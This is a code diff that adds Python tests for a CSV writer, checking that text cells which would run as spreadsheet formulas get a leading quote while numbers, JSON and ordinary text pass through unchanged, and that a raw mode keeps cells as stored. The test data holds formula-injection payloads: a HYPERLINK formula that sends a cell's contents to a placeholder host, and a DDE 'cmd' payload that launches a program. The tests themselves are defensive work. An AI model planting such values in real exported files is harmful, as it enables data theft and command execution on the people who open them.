@@ -125,3 +125,40 @@ async def test_parquet_row_groups_also_end_at_a_text_budget() -> None:
     meta = pq.ParquetFile(io.BytesIO(data)).metadata
     assert meta.num_rows == per_group * 2 + 1
     assert meta.num_row_groups == 3
+
+
+FORMULAS = ['=HYPERLINK("http://example.invalid/?d="&A1,"Se bilag")', "@SUM(1+1)*cmd|' /C calc'!A0", "+45 12 34 56 78",
+            "-2+3", "\tTab først", "\rRetur først"]
+
+
+async def _csv_rows(rows: list[dict[str, Any]], raw: bool) -> list[dict[str, str]]:
+    async def source() -> AsyncIterator[dict[str, Any]]:
+        for r in rows:
+            yield r
+
+    text = b"".join([c async for c in writers.write_csv(COLUMNS, source(), raw=raw)]).decode()
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+async def test_csv_text_cells_a_spreadsheet_would_run_start_with_a_quote() -> None:
+    rows = [{**row(n), "id": -n, "text": text, "names": [text, "Bo Hansen"]} for n, text in enumerate(FORMULAS, 1)]
+    got = await _csv_rows(rows, raw=False)
+    assert [r["text"] for r in got] == ["'" + text for text in FORMULAS]
+    assert [r["names"] for r in got] == [f"'{text}; Bo Hansen" for text in FORMULAS]
+    # Numbers stay numbers, negative ones included: only text is neutralised.
+    assert [r["id"] for r in got] == [str(-n) for n in range(1, len(FORMULAS) + 1)]
+    # JSON text starts with `[` or `{`, never a formula: written as it is.
+    assert json.loads(got[0]["nested"]) == row(1)["nested"]
+
+
+async def test_csv_text_that_only_contains_formula_characters_is_left_alone() -> None:
+    plain = ["Godkendt med 5 stemmer mod 2 (=flertal)", "Anna Jensen (A) - formand", "E-mail: a@b.dk", ""]
+    got = await _csv_rows([{**row(n), "text": text} for n, text in enumerate(plain)], raw=False)
+    assert [r["text"] for r in got] == plain
+
+
+async def test_csv_raw_writes_every_cell_as_stored() -> None:
+    rows = [{**row(n), "text": text, "names": [text]} for n, text in enumerate(FORMULAS)]
+    got = await _csv_rows(rows, raw=True)
+    assert [r["text"] for r in got] == FORMULAS
+    assert [r["names"] for r in got] == FORMULAS
